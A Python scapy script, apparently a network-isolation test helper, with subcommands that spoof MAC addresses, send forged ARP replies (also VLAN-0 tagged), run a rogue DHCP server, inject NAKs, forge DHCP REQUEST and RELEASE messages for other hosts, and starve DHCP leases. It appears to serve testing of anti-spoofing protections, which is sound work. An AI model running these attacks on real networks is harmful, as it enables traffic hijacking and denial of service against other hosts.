#!/usr/bin/python3
"""Attacks and unusual clients, one subcommand each. Prints "ready" before its first frame and "sent N" once it did its part.

    attack.py mac-spoof LINK VICTIM-MAC             frames with another VM's source MAC
    attack.py arp LINK TARGET-MAC CLAIMED-ADDRESS   ARP replies that claim an address
    attack.py arp-vlan0 LINK TARGET-MAC ADDRESS     the same behind a priority tag (VLAN 0)
    attack.py rogue-server LINK SERVER ADDRESS      answers every DISCOVER and REQUEST until it is ended
    attack.py nak LINK SERVER                       answers every REQUEST with a NAK until it is ended
    attack.py request-as LINK VICTIM-MAC ADDRESS    a DHCP REQUEST in another VM's name
    attack.py release-as LINK VICTIM-MAC ADDRESS SERVER   a DHCP RELEASE in another VM's name
    attack.py starve-identifiers LINK COUNT         DISCOVERs with ever new client identifiers
    attack.py inform LINK ADDRESS                   a DHCP INFORM as Windows sends it; prints the answer
"""
import logging
import random
import sys
import time

logging.getLogger("scapy").setLevel(logging.ERROR)
sys.dont_write_bytecode = True
from scapy.all import (  # noqa: E402
    ARP,
    BOOTP,
    DHCP,
    IP,
    UDP,
    AsyncSniffer,
    Dot1Q,
    Ether,
    Padding,
    conf,
    get_if_hwaddr,
    mac2str,
    sniff,
)

from sending import sender  # noqa: E402

conf.verb = 0
name, link = sys.argv[1:3]
args = sys.argv[3:]
mac = get_if_hwaddr(link)
s = conf.L2socket(iface=link)
send = sender(s)
BROADCAST = "ff:ff:ff:ff:ff:ff"



def client(chaddr, options, source="0.0.0.0", destination="255.255.255.255", ciaddr="0.0.0.0", to=BROADCAST):
    return (
        Ether(src=mac, dst=to)
        / IP(src=source, dst=destination)
        / UDP(sport=68, dport=67)
        / BOOTP(op=1, chaddr=mac2str(chaddr) + bytes(10), ciaddr=ciaddr, xid=random.getrandbits(32))
        / DHCP(options=options + ["end"])
    )


def server(request, kind, address, server_address):
    """A server's answer to a client's message."""
    options = [
        ("message-type", kind),
        ("server_id", server_address),
        ("lease_time", 600),
        ("subnet_mask", "255.255.255.0"),
        ("router", server_address),
        "end",
    ]
    if kind == "nak":
        options = options[:2] + ["end"]
    asked = request[BOOTP]
    return (
        Ether(src=mac, dst=BROADCAST)
        / IP(src=server_address, dst="255.255.255.255")
        / UDP(sport=67, dport=68)
        / BOOTP(op=2, yiaddr=address, chaddr=asked.chaddr, xid=asked.xid, flags=asked.flags)
        / DHCP(options=options)
    )


def message_type(frame):
    for option in frame[DHCP].options if DHCP in frame else []:
        if option[0] == "message-type":
            return option[1]
    return None


def answer_all(answer):
    """Gives every DHCP message of a client to `answer` and sends what comes back."""

    def hear(frame):
        if DHCP not in frame or frame[BOOTP].op != 1 or frame.src == mac:
            return
        reply = answer(frame, message_type(frame))
        if reply is not None:
            s.send(reply)
            print("answered", message_type(reply), flush=True)

    sniff(iface=link, prn=hear, store=False, started_callback=lambda: print("ready", flush=True))


def identifier(chaddr):
    return ("client_id", b"\x01" + mac2str(chaddr))


if name == "mac-spoof":
    send(Ether(src=args[0], dst=BROADCAST) / ARP(op=1, hwsrc=args[0], psrc="0.0.0.0", pdst="10.77.0.250"))
elif name == "arp":
    send(Ether(src=mac, dst=args[0]) / ARP(op=2, hwsrc=mac, psrc=args[1], hwdst=args[0], pdst="0.0.0.0"))
elif name == "arp-vlan0":
    claim = ARP(op=2, hwsrc=mac, psrc=args[1], hwdst=args[0], pdst="0.0.0.0")
    send(Ether(src=mac, dst=args[0]) / Dot1Q(vlan=0, type=0x0806) / claim / Padding(bytes(18)))
elif name == "rogue-server":
    answer_all(
        lambda frame, kind: server(frame, {1: "offer", 3: "ack"}[kind], args[1], args[0]) if kind in (1, 3) else None
    )
elif name == "nak":
    answer_all(lambda frame, kind: server(frame, "nak", "0.0.0.0", args[0]) if kind == 3 else None)
elif name == "request-as":
    options = [("message-type", "request"), identifier(args[0]), ("requested_addr", args[1])]
    send(client(args[0], options), rounds=3, more=0)
elif name == "release-as":
    options = [("message-type", "release"), ("server_id", args[2]), identifier(args[0])]
    send(client(args[0], options, source=args[1], destination=args[2], ciaddr=args[1]), rounds=3, more=0)
elif name == "starve-identifiers":
    print("ready", flush=True)
    for i in range(int(args[0])):
        s.send(client(mac, [("message-type", "discover"), ("client_id", b"\x00guest%d" % i)]))
        time.sleep(0.15)
    print("sent", args[0], flush=True)
elif name == "inform":
    options = [
        ("message-type", "inform"),
        identifier(mac),
        ("hostname", b"DESKTOP-1A2B3C4"),
        ("vendor_class_id", b"MSFT 5.0"),
        ("param_req_list", [1, 15, 3, 6, 44, 46, 47, 31, 33, 121, 249, 43, 252]),
    ]
    inform = client(mac, options, source=args[0], ciaddr=args[0])
    print("ready", flush=True)

    def acknowledges(frame):
        return message_type(frame) == 5 and frame[BOOTP].xid == inform[BOOTP].xid

    heard = AsyncSniffer(iface=link, lfilter=acknowledges, count=1, started_callback=lambda: s.send(inform))
    heard.start()
    heard.join(timeout=150)
    for frame in heard.results or []:
        print("acknowledged by", frame[IP].src, "yiaddr", frame[BOOTP].yiaddr, flush=True)
else:
    sys.exit(__doc__)
